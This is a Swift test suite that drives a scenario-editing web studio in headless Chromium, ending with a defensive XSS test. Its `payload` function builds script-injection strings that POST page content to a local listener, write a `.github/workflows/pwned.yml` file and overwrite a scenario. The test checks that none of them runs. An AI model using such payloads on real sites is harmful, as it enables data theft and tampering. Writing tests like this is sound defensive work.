import Foundation
import ScenarioTestSupport
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// The studio used as a person uses it, in headless Chromium driven through its DevTools
/// protocol by `studio_browser.py`: a drag recorded with the mouse and saved passes
/// `dnd-scenario run`; a failing scenario stepped through shows its diff at its line.
/// Never skipped: without Chromium or websocket-client these tests fail and say what to install.
@Suite("The studio in a real browser", .serialized)
struct StudioBrowserTests {
    static let script = StudioFixture.packageRoot + "/Tests/ScenarioStudioTests/studio_browser.py"

    /// Runs the script with `arguments`, failing after two minutes; returns what it printed.
    static func drive(_ arguments: [String]) throws -> (status: Int32, output: String) {
        // The python3 that .ci/setup installs packages for: the first on PATH.
        let python = try #require(Self.onPath("python3"), "python3 is not on PATH (.ci/setup --tests installs it)")
        let check = try run(python, ["-c", "import websocket"], timeout: 30)
        try #require(check.status == 0, "Python's websocket-client is missing: pip install websocket-client (.ci/setup --tests installs it)")
        try #require(Self.onPath("chromium") != nil || Self.onPath("chromium-browser") != nil, "chromium is not on PATH: apt-get install chromium (.ci/setup --tests installs it)")
        return try run(python, [script] + arguments, timeout: 120)
    }

    static func onPath(_ name: String) -> String? {
        (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin").split(separator: ":").map { "\($0)/\(name)" }.first { FileManager.default.isExecutableFile(atPath: $0) }
    }

    static func run(_ executable: String, _ arguments: [String], timeout: Double) throws -> (status: Int32, output: String) {
        let ran = try ChildProcess.run(executable, arguments, errorIntoOutput: true, timeout: timeout)
        return (ran.status, ran.standardOutput)
    }

    /// The drags recorded: in an app, pressing Shift over an item on the way, or starting at
    /// an item Safari offers (added with the page's form, with its load delays).
    static let recordings: [(app: String, add: String?, fromSafari: Bool)] = [
        ("gallery", nil, false), ("board", nil, false), ("board", "Ship", false), ("gallery", nil, true),
    ]

    @Test("a drag recorded with the mouse, pinned with Expect this and saved passes dnd-scenario run", arguments: recordings)
    func recordSaveRun(app: String, add: String?, fromSafari: Bool) throws {
        let folder = try freshFolder([:])
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let (studio, port, output) = try StudioCommandTests.start(["--no-open"], in: folder)
        defer { StudioCommandTests.stop(studio) }
        try #require(port > 0, "\(output)")
        let driven = try Self.drive(["record", "http://127.0.0.1:\(port)/", app, "recorded-\(app).yaml"] + (add.map { ["--add=\($0)"] } ?? []) + (fromSafari ? ["--from-safari"] : []))
        #expect(driven.status == 0, "\(driven.output)")
        let touch = fromSafari ? "{source: safari, item: sunrise}" : "{cell: 0}"
        #expect(driven.output.contains("  - touch: \(touch)\n  - lift\n  - move: {"), "\(driven.output)")
        #expect(driven.output.contains("        public.url: { value: \"https://img.example/sunrise.jpg\", after: 300ms }\n") == fromSafari, "\(driven.output)")
        // Shift over Ship, the board's third card, taps it into the drag.
        #expect(driven.output.contains("  - add: {cell: 2}\n") == (add != nil), "\(driven.output)")
        #expect(driven.output.contains("  - drop\n  - expect: {"), "\(driven.output)")
        let saved = folder + "/recorded-\(app).yaml"
        #expect(try String(contentsOfFile: saved, encoding: .utf8) + "\n" == driven.output)
        let executable = try #require(BuiltCommand.path)
        let ran = try Self.run(executable, ["run", saved], timeout: 60)
        #expect(ran.status == 0, "\(ran.output)")
        #expect(ran.output.hasSuffix("1 passed, 0 failed\n"), "\(ran.output)")
    }

    @Test("stepping through a failing scenario finds its diff on the page, at its line; fixed on disk, it reloads and passes")
    func stepToFailure() throws {
        let failing = StudioServerTests.scenario.replacingOccurrences(of: "images: [dawn.jpg, venice.jpg]", with: "images: [venice.jpg, dawn.jpg]")
        let folder = try freshFolder(["suite/failing.yaml": failing, "fixed.txt": StudioServerTests.scenario])
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let (studio, port, output) = try StudioCommandTests.start(["--no-open"], in: folder)
        defer { StudioCommandTests.stop(studio) }
        try #require(port > 0, "\(output)")
        let driven = try Self.drive(["step", "http://127.0.0.1:\(port)/", "suite/failing.yaml", "--disk=\(folder)/suite/failing.yaml", "--rewrite=\(folder)/fixed.txt"])
        #expect(driven.status == 0, "\(driven.output)")
        let page = try #require((try? JSONSerialization.jsonObject(with: Data(driven.output.utf8))) as? [String: Any], "\(driven.output)")
        #expect(page["failure"] as? String == "suite/failing.yaml:14:3: error: images differ\n    - venice.jpg\n      dawn.jpg\n    + venice.jpg")
        #expect(page["current"] as? String == "14")
        #expect(page["failing"] as? [String] == ["14"])
        #expect(page["pictures"] as? Int == 1)
        #expect((page["label"] as? String)?.hasPrefix("5/5 · line 14 · end") == true, "\(page)")
        #expect(page["reloaded"] as? String == "reloaded suite/failing.yaml: it changed on disk")
        #expect(page["after"] as? String == "the scenario passes")
    }

    @Test("a scenario whose app traps shows the crash at its step's line, and the studio replays the pane edited after it")
    func crashShown() throws {
        let folder = try freshFolder(["quirk.yaml": StudioWorkerTests.trapping])
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let (studio, port, output) = try StudioCommandTests.start(["--no-open"], in: folder)
        defer { StudioCommandTests.stop(studio) }
        try #require(port > 0, "\(output)")
        let driven = try Self.drive(["crash", "http://127.0.0.1:\(port)/", "quirk.yaml"])
        #expect(driven.status == 0, "\(driven.output)")
        let page = try #require((try? JSONSerialization.jsonObject(with: Data(driven.output.utf8))) as? [String: Any], "\(driven.output)")
        #expect(page["status"] as? String == "replayed: crashed")
        #expect((page["failure"] as? String)?.hasPrefix("quirk.yaml:8:5: error: crash: Fatal error: Array index is out of range (SIGILL)\n") == true, "\(page)")
        #expect(page["current"] as? String == "8")
        #expect(page["failing"] as? [String] == ["8"])
        #expect(page["pictures"] as? Int == 1)
        #expect(page["after edit"] as? String == "replayed: failed")
        #expect(studio.isRunning)
    }

    @Test("a replay superseded while it runs is aborted by the page, and the newer one shown")
    func supersede() throws {
        let folder = try freshFolder(["one.yaml": StudioServerTests.scenario])
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let (studio, port, output) = try StudioCommandTests.start(["--no-open"], in: folder)
        defer { StudioCommandTests.stop(studio) }
        try #require(port > 0, "\(output)")
        let driven = try Self.drive(["supersede", "http://127.0.0.1:\(port)/", "one.yaml"])
        #expect(driven.status == 0, "\(driven.output)")
        let page = try #require((try? JSONSerialization.jsonObject(with: Data(driven.output.utf8))) as? [String: Any], "\(driven.output)")
        #expect(page["aborted"] as? [Bool] == [true, false], "\(page)")
        #expect(page["status"] as? String == "replayed: passed")
        #expect(page["steps"] as? Int == 6)
    }

    @Test("a drag recorded with the launch selected goes before the file's steps, and Expect this right after it")
    func recordAtSelectedStep() throws {
        let scenario = StudioServerTests.scenario.replacingOccurrences(of: "expect:\n  images: [dawn.jpg, venice.jpg]\n", with: "")
        let folder = try freshFolder(["one.yaml": scenario])
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let (studio, port, output) = try StudioCommandTests.start(["--no-open"], in: folder)
        defer { StudioCommandTests.stop(studio) }
        try #require(port > 0, "\(output)")
        let driven = try Self.drive(["insert", "http://127.0.0.1:\(port)/", "one.yaml"])
        #expect(driven.status == 0, "\(driven.output)")
        // The new drag and its expect first, then the file's own drag as it was.
        let recorded = "steps:\n  - touch: {cell: 0}\n  - lift\n  - move: {cell: 1}\n  - drop\n  - expect: {images: [\"https://img.example/dawn.jpg\", \"https://img.example/venice.jpg\"], placeholders: 0, session: none}\n"
        #expect(driven.output.contains(recorded + ScenarioText.dragSteps(from: "cell: 0", to: "cell: 1")), "\(driven.output)")
    }

    @Test("step numbers of two digits show whole; a broken pane leaves nothing of the last replay; New scenario forgets the file name")
    func newcomer() throws {
        let long = StudioServerTests.scenario.replacingOccurrences(of: "steps:\n", with: "steps:\n" + String(repeating: "  - settle\n", count: 12))
        let folder = try freshFolder(["long.yaml": long])
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let (studio, port, output) = try StudioCommandTests.start(["--no-open"], in: folder)
        defer { StudioCommandTests.stop(studio) }
        try #require(port > 0, "\(output)")
        let driven = try Self.drive(["newcomer", "http://127.0.0.1:\(port)/", "long.yaml"])
        #expect(driven.status == 0, "\(driven.output)")
        let page = try #require((try? JSONSerialization.jsonObject(with: Data(driven.output.utf8))) as? [String: Any], "\(driven.output)")
        #expect(page["path"] as? String == "long.yaml")
        #expect(page["clipped"] as? Bool == false)
        let broken = page["broken"] as? [String: Any] ?? [:]
        #expect(broken["pictures"] as? Int == 0, "\(broken)")
        #expect(broken["trace"] as? Int == 0, "\(broken)")
        #expect(broken["label"] as? String == "", "\(broken)")
        #expect(broken["steps"] as? Int == 0, "\(broken)")
        #expect((broken["problems"] as? [String])?.first?.hasPrefix("long.yaml:4:14: error: unknown target kind 'cel'; did you mean 'cell'?") == true, "\(broken)")
        #expect(page["after new"] as? String == "")
    }

    /// Markup that runs script wherever a page renders it as HTML: breaking out of a double-
    /// quoted attribute into handlers of its own element (focused at once, as a focused tab
    /// does with no click), or of a double- or single-quoted attribute into an image whose
    /// error handler sets `window.pwned`,
    /// posts the pane to the listener, writes `.github/workflows/pwned.yml` and replaces
    /// `venice.yaml`; a script element; an SVG's load handler; an event handler; a
    /// `javascript:` URL. The handler holds no space and no quote (its strings are template
    /// literals): it runs even where the file's quoting put a backslash before a quote.
    /// A mapping key (an app's name) holds at most 1024 characters in YAML: `short` keeps
    /// one breakout of each quote.
    static func payload(_ tag: String, listener: Int, short: Bool = false) -> String {
        let steal = "fetch(`http://127.0.0.1:\(listener)/\(tag)`,{method:`POST`,mode:`no-cors`,body:document.getElementById(`yaml`).value});navigator.sendBeacon(`http://127.0.0.1:\(listener)/beacon-\(tag)`,`x`)"
        let write = "fetch(`/api/save`,{method:`POST`,body:JSON.stringify({path:`.github/workflows/pwned.yml`,text:`on:push`})});fetch(`/api/save`,{method:`POST`,body:JSON.stringify({path:`venice.yaml`,text:`pwned`,replace:true})})"
        let run = "window.pwned=`\(tag)`;\(steal);\(write)"
        if short { return "\" autofocus tabindex=0 onfocus=\(run) x=\"><img src=x onerror=window.pwned=`\(tag)-img`>'><svg onload=window.pwned=`\(tag)-svg`>" }
        return "\" autofocus tabindex=0 onfocus=\(run) onmouseover=\(run) x=\"><img src=x onerror=\(run)>'><img src=y onerror=\(run)><script>\(run)</script><svg onload=\(run)></svg> onmouseover=\(run) javascript:\(run)"
    }

    /// `text` as a YAML double-quoted scalar.
    static func quoted(_ text: String) -> String {
        "\"" + text.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\""
    }

    /// A scenario that loads and runs, with script in its name, an image's URL (drawn in the
    /// picture), another app's name and item id (chips, steps, trace), a target app's name,
    /// and the value that item provides.
    static func hostileScenario(listener: Int) -> String {
        let p = { (tag: String) in quoted(payload(tag, listener: listener)) }
        let key = { (tag: String) in quoted(payload(tag, listener: listener, short: true)) }
        return """
        scenario: \(p("scenario"))
        app: gallery
        given:
          columns: 3
          images:
            - { url: \(quoted("https://img.example/" + payload("image", listener: listener) + ".jpg")), aspect: 1.5 }
            - { url: "https://img.example/dawn.jpg", aspect: 1.0 }
        sources:
          \(key("app")):
            - id: \(p("item"))
              provides:
                public.url: { value: \(quoted("javascript:window.pwned='value'")), after: 100ms }
        targets:
          \(key("target")): { accepts: [public.url] }
        steps:
          - touch: { source: \(key("app")), item: \(p("item")) }
          - lift
          - move: { app: \(key("target")) }
          - move: { cell: 1 }
          - drop
          - expect: { images: [\(p("expected"))] }

        """
    }

    @Test("hostile scenario files opened in the page run nothing, send nothing and write nothing")
    func hostileFiles() throws {
        let listener = try Self.freePort()
        let files = [
            "hostile.yaml": Self.hostileScenario(listener: listener),
            "bad.yaml": "scenario: \(Self.quoted(Self.payload("bad-name", listener: listener)))\napp: \(Self.quoted(Self.payload("bad-app", listener: listener)))\nsteps: [drop]\n",
            "'><img src=x onerror=window.pwned=7>.yaml": Self.hostileScenario(listener: listener),
            "venice.yaml": StudioServerTests.scenario,
        ]
        let folder = try freshFolder(files)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let (studio, port, output) = try StudioCommandTests.start(["--no-open"], in: folder)
        defer { StudioCommandTests.stop(studio) }
        try #require(port > 0, "\(output)")
        let before = try Self.tree(folder)
        let driven = try Self.drive(["hostile", "http://127.0.0.1:\(port)/", "hostile.yaml", "bad.yaml", "'><img src=x onerror=window.pwned=7>.yaml", "--listener=\(listener)"])
        #expect(driven.status == 0, "\(driven.output)")
        let page = try #require((try? JSONSerialization.jsonObject(with: Data(driven.output.utf8))) as? [String: Any], "\(driven.output)")
        #expect(page["pwned"] is NSNull, "a payload ran: \(page)")
        #expect(page["received"] as? [String] == [], "a payload reached the listener: \(page)")
        #expect((page["listed"] as? [String])?.contains("'><img src=x onerror=window.pwned=7>.yaml") == true, "\(page)")
        let shown = page["files"] as? [String: [String: Any]] ?? [:]
        #expect(shown.count == 3, "\(page)")
        for (file, seen) in shown {
            #expect(seen["elements"] as? Int == 0, "\(file): markup became elements: \(seen)")
            #expect(seen["links"] as? [String] == [], "\(file): \(seen)")
            // The payloads did reach the page — as text.
            #expect((seen["text"] as? String)?.contains("\" autofocus tabindex=0 onfocus=window.pw") == true, "\(file): \(seen)")
        }
        let hostile = try #require(shown["hostile.yaml"])
        #expect((hostile["frames"] as? Int ?? 0) >= 6, "\(hostile)")
        #expect((hostile["chips"] as? [String])?.contains { $0.contains("<script>window.pwned=") } == true, "\(hostile)")
        #expect(try Self.tree(folder) == before)
        #expect(try String(contentsOfFile: folder + "/venice.yaml", encoding: .utf8) == StudioServerTests.scenario)
        #expect(!FileManager.default.fileExists(atPath: folder + "/.github"))
    }

    /// Every file under `folder` but the studio's own output, with its text.
    static func tree(_ folder: String) throws -> [String: String] {
        var files: [String: String] = [:]
        for case let file as String in FileManager.default.enumerator(atPath: folder)?.allObjects ?? [] where file != ".out" {
            var isFolder: ObjCBool = false
            _ = FileManager.default.fileExists(atPath: folder + "/" + file, isDirectory: &isFolder)
            files[file] = isFolder.boolValue ? "folder" : try String(contentsOfFile: folder + "/" + file, encoding: .utf8)
        }
        return files
    }

    /// A port free on 127.0.0.1 now, for the script's listener.
    static func freePort() throws -> Int {
        let socket = Glibc.socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        defer { close(socket) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        let bound = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(socket, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
        try #require(bound == 0)
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(socket, $0, &length) } }
        return Int(UInt16(bigEndian: address.sin_port))
    }
}
